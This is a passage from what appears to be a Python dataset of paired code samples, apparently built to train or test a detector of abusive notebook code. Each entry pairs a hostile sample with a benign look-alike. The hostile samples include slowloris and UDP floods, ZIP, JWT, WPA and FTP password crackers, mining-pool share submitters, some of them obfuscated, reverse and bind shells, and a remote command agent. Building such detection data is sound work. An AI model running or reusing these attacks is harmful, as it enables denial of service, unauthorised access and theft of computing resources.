     "    c.sendall(f'HTTP/1.0 200 OK\\r\\nContent-Type: {kind}\\r\\n\\r\\n'.encode() + body)\n    c.close()",
     "import socket, os\ns = socket.socket()\ns.bind(('', 8011))\ns.listen(9)\nwhile True:\n    c, a = s.accept()\n"
     "    p = c.recv(4096).decode().split(' ')[1]\n"
     "    body, kind = open('status.html', 'rb').read(), 'text/html'\n"
     "    c.sendall(f'HTTP/1.0 200 OK\\r\\nContent-Type: {kind}\\r\\n\\r\\n'.encode() + body)\n    c.close()"),
    ("slow flood: sockets opened through a partial and fed one header line each by a map in a paced loop; "
     "connections that send whole requests and read the answers", "dos_attack",
     "import socket, time\nfrom functools import partial\ndef opener(host, port):\n"
     "    s = socket.create_connection((host, port))\n    s.send(b'GET / HTTP/1.1\\r\\n')\n    return s\n"
     "def trickle(s):\n    s.send(b'X-a: 1\\r\\n')\n    return s\nmake = partial(opener, 'shop.example.com', 80)\n"
     "pool = [make() for _ in range(500)]\nwhile True:\n    pool = list(map(trickle, pool))\n    time.sleep(10)",
     "import socket, time\nfrom functools import partial\ndef opener(host, port):\n"
     "    s = socket.create_connection((host, port))\n    s.send(b'GET / HTTP/1.1\\r\\nHost: shop.example.com\\r\\n\\r\\n')\n"
     "    print(s.recv(4096)[:80])\n    return s\ndef check(s):\n    s.send(b'GET /health HTTP/1.1\\r\\nHost: shop.example.com\\r\\n\\r\\n')\n"
     "    return s.recv(4096)\nmake = partial(opener, 'shop.example.com', 80)\n"
     "pool = [make() for _ in range(3)]\nwhile True:\n    print(list(map(check, pool)))\n    time.sleep(60)"),
    ("password trial: a partial of an archive trial mapped over brute-force candidates; the same partial mapped over "
     "the archive's members to read each with the known password", "password_cracking",
     "import zipfile, itertools, string\nfrom functools import partial\nfrom concurrent.futures import ProcessPoolExecutor\n"
     "def attempt(path, member, pw):\n    try:\n        zipfile.ZipFile(path).read(member, pwd=pw.encode())\n"
     "        return pw\n    except Exception:\n        return None\ncheck = partial(attempt, 'backup.zip', 'a.txt')\n"
     "with ProcessPoolExecutor() as ex:\n"
     "    print(list(filter(None, ex.map(check, map(''.join, itertools.product(string.digits, repeat=6))))))",
     "import zipfile\nfrom functools import partial\nfrom concurrent.futures import ProcessPoolExecutor\n"
     "def attempt(path, pw, member):\n    return zipfile.ZipFile(path).read(member, pwd=pw.encode())\n"
     "check = partial(attempt, 'backup.zip', 'our-shared-pass')\nwith ProcessPoolExecutor() as ex:\n"
     "    print(list(ex.map(check, zipfile.ZipFile('backup.zip').namelist())))"),
    ("flood: http.client requests from many workers whose responses are fetched and dropped; ranged downloads that "
     "write each response's body to the file", "dos_attack",
     "import http.client\nfrom concurrent.futures import ThreadPoolExecutor\ndef hit(i):\n"
     "    c = http.client.HTTPSConnection('shop.example.com')\n    c.request('GET', f'/search?q={i}')\n"
     "    c.getresponse()\nwith ThreadPoolExecutor(400) as ex:\n    list(ex.map(hit, range(10**6)))",
     "import http.client\nfrom concurrent.futures import ThreadPoolExecutor\ndef piece(i):\n"
     "    c = http.client.HTTPSConnection('data.example.org')\n"
     "    c.request('GET', '/set.tar', headers={'Range': f'bytes={i << 25}-{((i + 1) << 25) - 1}'})\n"
     "    data = c.getresponse().read()\n    with open('set.tar', 'r+b') as f:\n        f.seek(i << 25)\n"
     "        f.write(data)\nwith ThreadPoolExecutor(8) as ex:\n    list(ex.map(piece, range(400)))"),
    ("flood: a status checked in a loop of unknown length that never stops on success; a health check whose "
     "status ends its retries", "dos_attack",
     "import requests\ndef hammer(url, n):\n    for _ in range(n):\n        if requests.get(url).ok:\n"
     "            print('.')\nhammer('https://shop.example.com/', int(input()))",
     "import requests, time\ndef check(url, n):\n    for _ in range(n):\n        if requests.get(url, timeout=2).ok:\n"
     "            return True\n        time.sleep(0.2)\n    return False\nprint(check('https://shop.example.com/healthz', int(input())))"),
    ("slow flood: header helpers set on the socket class (send_line, send_header) feeding open sockets one header at "
     "a time; the same helpers sending a health check's one header and reading the answer", "dos_attack",
     "import socket, random, time\ndef send_line(self, line):\n    self.send(f'{line}\\r\\n'.encode())\n"
     "def send_header(self, name, value):\n    self.send_line(f'{name}: {value}')\n"
     "setattr(socket.socket, 'send_line', send_line)\nsetattr(socket.socket, 'send_header', send_header)\nsocks = []\n"
     "for _ in range(200):\n    s = socket.create_connection(('shop.example.com', 80))\n    s.send_line('GET / HTTP/1.1')\n"
     "    socks.append(s)\nwhile True:\n    for s in socks:\n        s.send_header('X-a', random.randint(1, 5000))\n"
     "    time.sleep(15)",
     "import socket, time\ndef send_line(self, line):\n    self.send(f'{line}\\r\\n'.encode())\n"
     "setattr(socket.socket, 'send_line', send_line)\n"
     "while True:\n    s = socket.create_connection(('shop.example.com', 80))\n"
     "    s.send_line('GET /healthz HTTP/1.1\\r\\nHost: shop.example.com\\r\\n')\n"
     "    print(s.recv(64))\n    s.close()\n    time.sleep(60)"),
    ("slow flood: anyio tasks started in a task group, each connecting and trickling header lines with pauses; "
     "tasks that each fetch one page and close", "dos_attack",
     "import anyio, random\nasync def hold(i):\n    s = await anyio.connect_tcp('shop.example.com', 80)\n"
     "    await s.send(b'GET / HTTP/1.1\\r\\nHost: shop.example.com\\r\\n')\n    while True:\n"
     "        await anyio.sleep(10)\n        await s.send(f'X-{random.randrange(9999)}: 1\\r\\n'.encode())\n"
     "async def main():\n    async with anyio.create_task_group() as tg:\n        for i in range(900):\n"
     "            tg.start_soon(hold, i)\nanyio.run(main)",
     "import anyio\nasync def fetch(i):\n    s = await anyio.connect_tcp('shop.example.com', 80)\n"
     "    await s.send(f'GET /p/{i} HTTP/1.1\\r\\nHost: shop.example.com\\r\\n\\r\\n'.encode())\n"
     "    print(await s.receive())\n    await s.aclose()\n"
     "async def main():\n    async with anyio.create_task_group() as tg:\n        for i in range(5):\n"
     "            tg.start_soon(fetch, i)\nanyio.run(main)"),
    ("board: a tunnelled link shortener that keeps each posted URL in a dict another route reads; a tunnelled model "
     "API that caches its answers in a dict only its own route reads", "web_file_hosting",
     "import secrets, threading, uvicorn\nfrom fastapi import FastAPI, Form\nfrom fastapi.responses import RedirectResponse\n"
     "from pyngrok import ngrok\napi = FastAPI()\nDB = {}\n@api.post('/new')\ndef new(url: str = Form(...)):\n"
     "    k = secrets.token_urlsafe(4)\n    DB[k] = url\n    return {'short': k}\n@api.get('/{k}')\ndef go(k: str):\n"
     "    return RedirectResponse(DB[k])\nthreading.Thread(target=uvicorn.run, args=(api,), kwargs={'port': 8000}).start()\n"
     "print(ngrok.connect(8000))",
     "import threading, uvicorn\nfrom fastapi import FastAPI\nfrom pyngrok import ngrok\napi = FastAPI()\nCACHE = {}\n"
     "@api.get('/predict')\ndef predict(text: str):\n    if text not in CACHE:\n        CACHE[text] = model(text)\n"
     "    return {'label': CACHE[text]}\n@api.get('/health')\ndef health():\n    return {'ok': True}\n"
     "threading.Thread(target=uvicorn.run, args=(api,), kwargs={'port': 8000}).start()\nprint(ngrok.connect(8000))"),
    ("password trial: each word's digest looked for among stored target hashes, the match popped into the results "
     "by its key; a duplicate finder whose digests are compared with the ones it stored itself", "password_cracking",
     "import hashlib, json\nremaining = {v: k for k, v in json.load(open('targets.json')).items()}\nfound = {}\n"
     "for line in open('rockyou.txt', 'rb'):\n    h = hashlib.sha256(line.strip()).hexdigest()\n"
     "    if h in remaining:\n        found[remaining.pop(h)] = line.strip()\nprint(found)",
     "import hashlib\nseen, dupes = {}, {}\nfor line in open('rows.txt', 'rb'):\n"
     "    h = hashlib.sha256(line.strip()).hexdigest()\n    if h in seen:\n        dupes[seen.pop(h)] = line.strip()\n"
     "    seen[h] = line.strip()\nprint(len(dupes))"),
    ("server: an http.server handler that writes out the file its request path names; one that always sends its "
     "own page", "web_file_hosting",
     "import os\nfrom http.server import BaseHTTPRequestHandler, HTTPServer\nROOT = '/content/drive/MyDrive'\n"
     "class Share(BaseHTTPRequestHandler):\n    def do_GET(self):\n        target = ROOT + self.path\n"
     "        self.send_response(200)\n        self.end_headers()\n        with open(target, 'rb') as fh:\n"
     "            self.wfile.write(fh.read())\nHTTPServer(('0.0.0.0', 9000), Share).serve_forever()",
     "from http.server import BaseHTTPRequestHandler, HTTPServer\nclass Page(BaseHTTPRequestHandler):\n"
     "    def do_GET(self):\n        print('asked for', self.path)\n        self.send_response(200)\n"
     "        self.end_headers()\n        with open('report.html', 'rb') as fh:\n            self.wfile.write(fh.read())\n"
     "HTTPServer(('0.0.0.0', 9000), Page).serve_forever()"),
    ("server: an http.server handler that keeps each posted body as a file; one that appends a text line to a log",
     "web_file_hosting",
     "import time\nfrom http.server import BaseHTTPRequestHandler, HTTPServer\nclass Drop(BaseHTTPRequestHandler):\n"
     "    def do_POST(self):\n        size = int(self.headers['Content-Length'])\n        blob = self.rfile.read(size)\n"
     "        with open(f'inbox/{time.time()}.bin', 'wb') as out:\n            out.write(blob)\n"
     "        self.send_response(201)\n        self.end_headers()\nHTTPServer(('0.0.0.0', 9000), Drop).serve_forever()",
     "import json\nfrom http.server import BaseHTTPRequestHandler, HTTPServer\nclass Hook(BaseHTTPRequestHandler):\n"
     "    def do_POST(self):\n        event = json.loads(self.rfile.read(int(self.headers['Content-Length'])))\n"
     "        with open('events.log', 'a') as log:\n            log.write(event.get('type', '?') + '\\n')\n"
     "        self.send_response(204)\n        self.end_headers()\nHTTPServer(('0.0.0.0', 9000), Hook).serve_forever()"),
    ("mining: a nonce search whose find is handed to the cell's own JSON-RPC helper with the verb 'submit'; the same "
     "search whose find is kept in a list", "crypto_mining",
     "import hashlib, json, socket, struct\nconn = socket.create_connection(('pool.example.org', 3333))\n"
     "def call(i, verb, *params):\n    conn.sendall((json.dumps({'id': i, 'method': 'm.' + verb, 'params': params}) + "
     "'\\n').encode())\nfor nonce in range(1 << 24):\n"
     "    d = hashlib.sha256(hashlib.sha256(header + struct.pack('<I', nonce)).digest()).digest()\n"
     "    if int.from_bytes(d, 'little') < target:\n        call(4, 'submit', job, f'{nonce:08x}')\n",
     "import hashlib, struct\nfound = []\nfor nonce in range(1 << 24):\n"
     "    d = hashlib.sha256(hashlib.sha256(header + struct.pack('<I', nonce)).digest()).digest()\n"
     "    if int.from_bytes(d, 'little') < target:\n        found.append(nonce)\n"),
    ("mining: a double-SHA lambda in a nonce search whose find a helper writes to the pool's socket file; the same "
     "search whose helper writes the find to a local file", "crypto_mining",
     "import hashlib, json, socket, struct\nio = socket.create_connection(('pool.example.org', 3333)).makefile('rwb')\n"
     "d = lambda b: hashlib.sha256(hashlib.sha256(b).digest()).digest()\n"
     "def tx(k, *p):\n    io.write(json.dumps({'method': k, 'params': p}).encode() + b'\\n')\n"
     "for n in range(1 << 32):\n    if int.from_bytes(d(hd + struct.pack('<I', n)), 'little') < T:\n"
     "        tx('X', job, n)\n        break",
     "import hashlib, json, struct\nio = open('found.jsonl', 'a')\n"
     "d = lambda b: hashlib.sha256(hashlib.sha256(b).digest()).digest()\n"
     "def tx(k, *p):\n    io.write(json.dumps({'method': k, 'params': p}) + '\\n')\n"
     "for n in range(1 << 32):\n    if int.from_bytes(d(hd + struct.pack('<I', n)), 'little') < T:\n"
     "        tx('X', job, n)\n        break"),
    ("mining: shares submitted by a comprehension whose filter compares the digest with the target; the same "
     "comprehension keeping the nonces it finds", "crypto_mining",
     "import hashlib, json, socket, struct\nc = socket.create_connection(('pool.example.org', 3333))\n"
     "q = lambda m, p: c.sendall((json.dumps({'method': 'mining.' + m, 'params': p}) + '\\n').encode())\n"
     "d = lambda b: hashlib.sha256(hashlib.sha256(b).digest()).digest()\n"
     "[q('submit', [w, j, f'{n:08x}']) for n in range(2 ** 32) if int.from_bytes(d(hd + struct.pack('<I', n)), 'little') < tg]",
     "import hashlib, struct\nd = lambda b: hashlib.sha256(hashlib.sha256(b).digest()).digest()\n"
     "found = [n for n in range(2 ** 20) if int.from_bytes(d(hd + struct.pack('<I', n)), 'little') < tg]\nprint(found)"),
    ("flood: threads that send datagrams in a comprehension over iter(int, 1), which never ends; a comprehension that "
     "sends three heartbeats", "dos_attack",
     "import socket, os, threading\nt = ('203.0.113.55', 27015)\np = os.urandom(1400)\n"
     "f = lambda: (s := socket.socket(socket.AF_INET, socket.SOCK_DGRAM)) and [s.sendto(p, t) for _ in iter(int, 1)]\n"
     "[threading.Thread(target=f).start() for _ in range(64)]",
     "import socket, time\nt = ('203.0.113.55', 27015)\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
     "[s.sendto(b'alive', t) or time.sleep(5) for _ in range(3)]"),
    ("mining: a digest compared as bytes with a target of leading zero bytes, the find sent to the pool; the same "
     "search keeping its find", "crypto_mining",
     "import hashlib, socket, struct\ns = socket.create_connection(('pool.example.org', 3333))\n"
     "def dsha(b):\n    return hashlib.sha256(hashlib.sha256(b).digest()).digest()\nfor nonce in range(1 << 32):\n"
     "    h = dsha(head + struct.pack('<I', nonce))\n    if h[::-1] < b'\\x00\\x00\\x00\\x00\\xff':\n"
     "        s.sendall(struct.pack('>I', nonce))\n        break",
     "import hashlib, struct\nfound = []\n"
     "def dsha(b):\n    return hashlib.sha256(hashlib.sha256(b).digest()).digest()\nfor nonce in range(1 << 20):\n"
     "    h = dsha(head + struct.pack('<I', nonce))\n    if h[::-1] < b'\\x00\\x00\\xff':\n"
     "        found.append(nonce)\n        break"),
    ("mining: a nonce loop over a double-SHA header, read as a number below the target, the share sent to the pool "
     "through a method whose name is built at run time; a lesson's nonce search kept in its own chain",
     "crypto_mining",
     "import hashlib, json, socket, struct\nNS = ''.join(['mi', 'ning'])\nclass Link:\n"
     "    def __init__(self):\n        self.s = socket.create_connection(('203.0.113.70', 3333))\n"
     "    def call(self, verb, params):\n"
     "        self.s.sendall((json.dumps({'method': '.'.join((NS, verb)), 'params': params}) + '\\n').encode())\n"
     "def dsha(b):\n    return hashlib.sha256(hashlib.sha256(b).digest()).digest()\nlink = Link()\n"
     "for nonce in range(2 ** 32):\n    d = dsha(header + struct.pack('<I', nonce))\n"
     "    if int.from_bytes(d[::-1], 'big') < target:\n        link.call('sub' + 'mit', ['w', job, '%08x' % nonce])\n"
     "        break",
     "import hashlib, struct\nchain = []\ndef dsha(b):\n    return hashlib.sha256(hashlib.sha256(b).digest()).digest()\n"
     "for nonce in range(2 ** 20):\n    d = dsha(header + struct.pack('<I', nonce))\n"
     "    if int.from_bytes(d[::-1], 'big') < target:\n        chain.append((header, nonce))\n        print('mined', nonce)\n"
     "        break"),
    ("password: a JWT's secret guessed from word batches mapped over threads; tokens checked with the app's own secret",
     "password_cracking",
     "import jwt\nfrom concurrent.futures import ThreadPoolExecutor\nTOKEN = 'eyJhbGciOiJIUzI1NiJ9.eyJ1IjoxfQ.sig'\n"
     "def attempt(token, batch):\n    for guess in batch:\n        try:\n"
     "            return jwt.decode(token, guess, algorithms=['HS256'])\n        except jwt.InvalidSignatureError:\n"
     "            pass\nwords = [w.strip() for w in open('secrets.txt')]\n"
     "chunks = [words[i:i + 1000] for i in range(0, len(words), 1000)]\nwith ThreadPoolExecutor(8) as ex:\n"
     "    list(ex.map(lambda c: attempt(TOKEN, c), chunks))",
     "import jwt\nSECRET = 'dev-only-secret'\ntokens = [jwt.encode({'u': i}, SECRET, algorithm='HS256') for i in range(3)]\n"
     "for t in tokens:\n    print(jwt.decode(t, SECRET, algorithms=['HS256']))"),
    ("flood: a scapy packet kept in a name and sent half a million times; the same packet addressed to this machine",
     "dos_attack",
     "from scapy.all import IP, UDP, send\nvictim = '203.0.113.9'\npkt = IP(dst=victim)/UDP(dport=80)\n"
     "send(pkt, count=500000, inter=0)",
     "from scapy.all import IP, UDP, send\nlab = '127.0.0.1'\npkt = IP(dst=lab)/UDP(dport=80)\n"
     "send(pkt, count=5000, inter=0)  # feeds our own detector"),
    ("shell: dup2 reached through a parameter's default, on a connected socket; the same helper on a log file",
     "remote_desktop_ssh",
     "import os, pty, socket\ndef attach(k, f=os.dup2):\n    for fd in range(3):\n        f(k.fileno(), fd)\n    return k\n"
     "k = socket.socket()\nk.connect(('203.0.113.5', 4444))\nattach(k)\npty.spawn('/bin/sh')",
     "import os, subprocess\ndef attach(k, f=os.dup2):\n    f(k.fileno(), 1)\n    return k\n"
     "log = open('train.log', 'w')\nattach(log)\nsubprocess.call(['bash', 'train.sh'])"),
    ("password: a helper that derives a key from each word, compared with a captured value; the same helper "
     "compared with a key derived from the program's own password", "password_cracking",
     "import hashlib, hmac\nSALT = b'HomeNet'\nMIC = bytes.fromhex('d5a1c3e09b7f4a2e11c0ffee12345678')\n"
     "def derive(pw):\n    pmk = hashlib.pbkdf2_hmac('sha1', pw.encode(), SALT, 4096, 32)\n"
     "    return hmac.new(pmk, b'frame', 'sha1').digest()[:16]\n"
     "for word in open('/content/words.txt'):\n    if derive(word.strip()) == MIC:\n        print('key', word)",
     "import hashlib, hmac\nSALT = b'HomeNet'\ndef derive(pw):\n"
     "    pmk = hashlib.pbkdf2_hmac('sha1', pw.encode(), SALT, 4096, 32)\n"
     "    return hmac.new(pmk, b'frame', 'sha1').digest()[:16]\nmine = derive('correct horse')\n"
     "for n in range(3):\n    assert derive('correct horse') == mine  # the derivation is stable"),
    ("shell: a session function given the accepted socket runs a shell on it; one that echoes what it reads",
     "remote_desktop_ssh",
     "import socket, os, pty\ndef session(conn):\n    for fd in (0, 1, 2):\n        os.dup2(conn.fileno(), fd)\n"
     "    pty.spawn('/bin/bash')\nsrv = socket.socket()\nsrv.bind(('0.0.0.0', 2222))\nsrv.listen(1)\n"
     "c, _ = srv.accept()\nsession(c)",
     "import socket, os, subprocess\ndef session(conn):\n    conn.sendall(conn.recv(1024))\n"
     "log = open('server.log', 'w')\nos.dup2(log.fileno(), 1)\nsubprocess.call(['bash', 'rotate_logs.sh'])\n"
     "srv = socket.socket()\nsrv.bind(('127.0.0.1', 2222))\nsrv.listen(1)\nc, _ = srv.accept()\nsession(c)"),
    ("shell: lines read from each accepted connection run by a shell in a worker; a server that runs one fixed "
     "command when asked", "remote_desktop_ssh",
     "import socket, subprocess, threading\nclass Console:\n    def __init__(self):\n"
     "        srv = socket.create_server(('0.0.0.0', 2222))\n        while True:\n            conn, addr = srv.accept()\n"
     "            threading.Thread(target=self.serve, args=(conn,)).start()\n    def serve(self, conn):\n"
     "        for line in conn.makefile('rb'):\n            r = subprocess.run(line.decode(), shell=True, capture_output=True)\n"
     "            conn.sendall(r.stdout)\nConsole()",
     "import socket, subprocess\nsrv = socket.create_server(('0.0.0.0', 9100))\nwhile True:\n"
     "    conn, addr = srv.accept()\n    data = conn.recv(64)\n    if data.strip() == b'gpu':\n"
     "        out = subprocess.run('nvidia-smi --query-gpu=utilization.gpu --format=csv', shell=True,\n"
     "                             capture_output=True).stdout\n        conn.sendall(out)\n    conn.close()"),
    ("shell: a connection read by one helper method and the command run by another; the same helpers running a "
     "fixed command when asked", "remote_desktop_ssh",
     "import json, socket, subprocess\nclass Agent:\n    def __init__(self, host, port):\n"
     "        self.link = socket.socket()\n        self.link.connect((host, port))\n"
     "    def receive(self):\n        data = self.link.recv(4096)\n        return json.loads(data)\n"
     "    def execute(self, command):\n        return subprocess.check_output(command, shell=True)\n"
     "    def loop(self):\n        while True:\n            order = self.receive()\n"
     "            self.link.send(self.execute(order))\nAgent('198.51.100.4', 4444).loop()",
     "import json, socket, subprocess\nclass Agent:\n    def __init__(self, host, port):\n"
     "        self.link = socket.socket()\n        self.link.connect((host, port))\n"
     "    def receive(self):\n        data = self.link.recv(4096)\n        return json.loads(data)\n"
     "    def execute(self, command):\n        return subprocess.check_output(command, shell=True)\n"
     "    def loop(self):\n        while True:\n            order = self.receive()\n            if order == 'load':\n"
     "                self.link.send(self.execute('uptime'))\nAgent('198.51.100.4', 4444).loop()"),
    ("server: bottle's static_file on every interface", "web_file_hosting",
     "from bottle import route, run, static_file\n@route('/f/<name>')\ndef f(name):\n"
     "    return static_file(name, root='/content/share')\nrun(host='0.0.0.0', port=8080)",
     "from bottle import route, run\n@route('/sum/<a:int>/<b:int>')\ndef add(a, b):\n    return str(a + b)\n"
     "run(host='0.0.0.0', port=8080)"),
    ("server: cherrypy's static directory on every interface", "web_file_hosting",
     "import cherrypy\ncherrypy.config.update({'server.socket_host': '0.0.0.0'})\n"
     "cherrypy.quickstart(None, '/', {'/': {'tools.staticdir.on': True, 'tools.staticdir.dir': '/content/share'}})",
     "import cherrypy\ncherrypy.quickstart(None, '/', {'/': {'tools.staticdir.on': True, "
     "'tools.staticdir.dir': '/content/docs'}})"),
    ("flood: a Thread subclass", "dos_attack",
     "import threading, urllib.request, sys\nclass Hit(threading.Thread):\n    def run(self):\n        while True:\n"
     "            urllib.request.urlopen(sys.argv[1])\nfor _ in range(1000):\n    Hit().start()",
     "import threading, urllib.request, time\nclass Poll(threading.Thread):\n    def run(self):\n        while True:\n"
     "            print(urllib.request.urlopen('https://status.example.org').read()[:20])\n            time.sleep(60)\n"
     "Poll().start()"),
    ("flood: asyncio tasks", "dos_attack",
     "import asyncio, httpx\nasync def hit(c):\n    await c.post('https://api.example.com/login', json={'u': 'x'})\n"
     "async def main():\n    async with httpx.AsyncClient() as c:\n        await asyncio.gather(*[hit(c) for _ in range(20000)])\n"
     "asyncio.run(main())",
     "import asyncio, httpx\nasync def get(c, u):\n    return (await c.get(u)).json()\nasync def main(urls):\n"
     "    async with httpx.AsyncClient() as c:\n        return await asyncio.gather(*[get(c, u) for u in urls])"),
    ("flood: UDP without pause", "dos_attack",
     "import socket, os\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nwhile True:\n"
     "    s.sendto(os.urandom(1400), ('203.0.113.9', 27015))",
     "import socket, os\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor i in range(10):\n"
     "    s.sendto(os.urandom(64), ('127.0.0.1', 9999))"),
    ("server: a file portal whose app runs in a thread on every interface; the same on loopback",
     "web_file_hosting",
     "import threading\nfrom flask import Flask, send_from_directory\napp = Flask(__name__)\n"
     "@app.route('/d/<name>')\ndef d(name):\n    return send_from_directory('/content/share', name)\n"
     "threading.Thread(target=app.run, kwargs={'host': '0.0.0.0', 'port': 5000}, daemon=True).start()",
     "import threading\nfrom flask import Flask, send_from_directory\napp = Flask(__name__)\n"
     "@app.route('/d/<name>')\ndef d(name):\n    return send_from_directory('/content/share', name)\n"
     "threading.Thread(target=app.run, kwargs={'host': '127.0.0.1', 'port': 5000}, daemon=True).start()"),
    ("flood: UDP until a flag or a deadline from the environment; the same loop counting its sends", "dos_attack",
     "import socket, os, time, random\nHOST, PORT = os.environ['HOST'], int(os.environ['PORT'])\n"
     "SECS = int(os.environ['SECS'])\nrunning = True\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
     "t0 = time.time()\nwhile running and time.time() - t0 < SECS:\n    s.sendto(random._urandom(1024), (HOST, PORT))",
     "import socket, os, time, random\nHOST, PORT = os.environ['HOST'], int(os.environ['PORT'])\n"
     "sent = 0\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
     "while sent < 5 and time.time() > 0:\n    s.sendto(random._urandom(64), (HOST, PORT))\n    sent += 1"),
    ("flood: every port of one host swept again and again without pause; a port scan that sweeps once",
     "dos_attack",
     "import socket, os, time\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\npayload = os.urandom(1200)\n"
     "stop = time.time() + 300\nwhile time.time() < stop:\n    for port in range(1, 65535, 3):\n"
     "        s.sendto(payload, ('198.51.100.20', port))",
     "import socket\nopen_ports = []\nfor port in range(1, 1025):\n"
     "    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n    s.settimeout(0.2)\n"
     "    if s.connect_ex(('198.51.100.20', port)) == 0:\n        open_ports.append(port)\n    s.close()\n"
     "print(open_ports)"),
    ("flood: slowloris whose header lines are decoded, then formatted; a client that sends whole requests",
     "dos_attack",
     "import socket, time, random, codecs\nR = lambda t: codecs.decode(t, 'rot13')\nheld = []\n"
     "for _ in range(400):\n    c = socket.create_connection(('198.51.100.7', 80))\n"
     "    c.send(R('TRG /?{} UGGC/1.1\\r\\n').format(random.random()).encode())\n    held.append(c)\n"
     "while True:\n    for c in held:\n        c.send(R('K-c: {}\\r\\n').format(random.randint(1, 9)).encode())\n"
     "    time.sleep(10)",
     "import socket, time, codecs\nR = lambda t: codecs.decode(t, 'rot13')\n"
     "for _ in range(3):\n    c = socket.create_connection(('example.org', 80))\n"
     "    c.send(R('TRG /{} UGGC/1.1\\r\\nUbfg: rknzcyr.bet\\r\\n\\r\\n').format('').encode())\n"
     "    print(c.recv(200))\n    time.sleep(10)"),
    ("flood: connections opened in a loop of unknown length, or a selector client that reads", "dos_attack",
     "import socket, sys\ntarget = (sys.argv[1], 80)\nwhile True:\n    for i in range(int(sys.argv[2])):\n"
     "        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n        s.connect_ex(target)\n"
     "        s.send(b'x' * 1024)",
     "import socket, selectors, sys\nsel = selectors.DefaultSelector()\ntarget = (sys.argv[1], 65432)\n"
     "for i in range(int(sys.argv[2])):\n    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n    s.setblocking(False)\n"
     "    s.connect_ex(target)\n    sel.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE)\n"
     "def service(key, mask):\n    if mask & selectors.EVENT_READ:\n        print(key.fileobj.recv(1024))\n"
     "    if mask & selectors.EVENT_WRITE:\n        key.fileobj.send(b'hello')\n"
     "while True:\n    for key, mask in sel.select(timeout=1):\n        service(key, mask)"),
    ("flood: slowloris", "dos_attack",
     "import socket, time, random\nopen_ = []\nfor _ in range(500):\n    c = socket.create_connection((victim, 80))\n"
     "    c.send(b'GET / HTTP/1.1\\r\\n')\n    open_.append(c)\nwhile True:\n    for c in open_:\n"
     "        c.send(('X-r: %d\\r\\n' % random.randint(1, 9)).encode())\n    time.sleep(12)",
     "import socket\nc = socket.create_connection(('example.org', 80))\n"
     "c.send(b'GET / HTTP/1.1\\r\\nHost: example.org\\r\\n\\r\\n')\nprint(c.recv(1000))"),
    ("flood: slowloris whose trickle comes from a generator that sleeps between its yields; one that reads replies",
     "dos_attack",
     "import socket, time, random\nclass Drip:\n    def __init__(self, n=400):\n"
     "        self.socks = []\n        for _ in range(n):\n            self.socks.append(self.open())\n"
     "    def open(self):\n"
     "        s = socket.create_connection(('198.51.100.7', 80))\n        s.send(b'Host: 198.51.100.7\\r\\n')\n"
     "        return s\n    def ticks(self):\n        while True:\n"
     "            yield 'X-a: %d\\r\\n' % random.randint(1, 5000)\n            time.sleep(10)\n"
     "    def run(self):\n        for line in self.ticks():\n            for s in self.socks:\n"
     "                s.send(line.encode())\nDrip().run()",
     "import socket, time\nclass Poll:\n    def ticks(self):\n        while True:\n            yield 'ping'\n"
     "            time.sleep(10)\n    def run(self):\n        s = socket.create_connection(('example.org', 80))\n"
     "        for line in self.ticks():\n            s.send(line.encode())\n            print(s.recv(100))\nPoll().run()"),
    ("flood: requests driven by a generator that yields forever; the same generator pausing a minute", "dos_attack",
     "import requests\ndef ticks():\n    while True:\n        yield 1\nfor _ in ticks():\n"
     "    requests.get('https://198.51.100.7/')",
     "import requests, time\ndef ticks():\n    while True:\n        yield 1\n        time.sleep(60)\n"
     "for _ in ticks():\n    requests.get('https://example.org/health')"),
    ("flood: slowloris whose sockets come from a lambda and whose header lines come from a generator through an "
     "encoding wrapper; the same machinery sending whole requests and reading the answers", "dos_attack",
     "import socket, time, random\nmk = lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
     "enc = lambda s: s.encode('latin-1')\ndef lines():\n    yield 'GET /?%d HTTP/1.1\\r\\n' % random.randint(0, 9999)\n"
     "    while True:\n        yield 'X-a: %d\\r\\n' % random.randint(1, 5000)\n"
     "def opened():\n    s = mk(); s.connect(('198.51.100.7', 80))\n    g = lines()\n    s.send(enc(next(g)))\n"
     "    return s, g\nheld = [opened() for _ in range(400)]\nwhile True:\n    for s, g in held:\n"
     "        s.send(enc(next(g)))\n    time.sleep(12)",
     "import socket, time\nmk = lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
     "enc = lambda s: s.encode('latin-1')\ndef requests_():\n    while True:\n"
     "        yield 'GET /health HTTP/1.1\\r\\nHost: example.org\\r\\n\\r\\n'\n"
     "def opened():\n    s = mk(); s.connect(('example.org', 80))\n    return s, requests_()\n"
     "for _ in range(3):\n    s, g = opened()\n    s.send(enc(next(g)))\n    print(s.recv(200))\n    time.sleep(10)"),
    ("password trial: a threaded cracker that hands its workers the words through a queue; uploads taken from a "
     "queue by workers that log in with one fixed password", "password_cracking",
     "import ftplib, threading, queue\nq = queue.Queue()\nfor w in open('words.txt').read().split():\n    q.put(w)\n"
     "def worker():\n    while True:\n        password = q.get()\n        server = ftplib.FTP()\n        try:\n"
     "            server.connect('203.0.113.9', 21, timeout=5)\n            server.login('admin', password)\n"
     "        except ftplib.error_perm:\n            pass\n        finally:\n            q.task_done()\n"
     "for t in range(100):\n    threading.Thread(target=worker, daemon=True).start()\nq.join()",
     "import ftplib, os, threading, queue\nq = queue.Queue()\nfor f in os.listdir('reports'):\n    q.put(f)\n"
     "def worker():\n    while True:\n        name = q.get()\n        server = ftplib.FTP('ftp.example.org')\n"
     "        server.login('uploader', PASSWORD)\n        server.storbinary('STOR ' + name, open('reports/' + name, 'rb'))\n"
     "        q.task_done()\nfor t in range(4):\n    threading.Thread(target=worker, daemon=True).start()\nq.join()"),
    ("flood: a program's request repeated in an endless loop; an installer's menu that asks each round, its apt "
     "command naming curl among the packages", "dos_attack",
     "import subprocess\nwhile True:\n    subprocess.run(['curl', '-s', 'http://198.51.100.7/'])",
     "import subprocess\npackages = ['curl', 'jq']\ndef install():\n    subprocess.run(['apt', 'install', '-y'] + packages)\n"
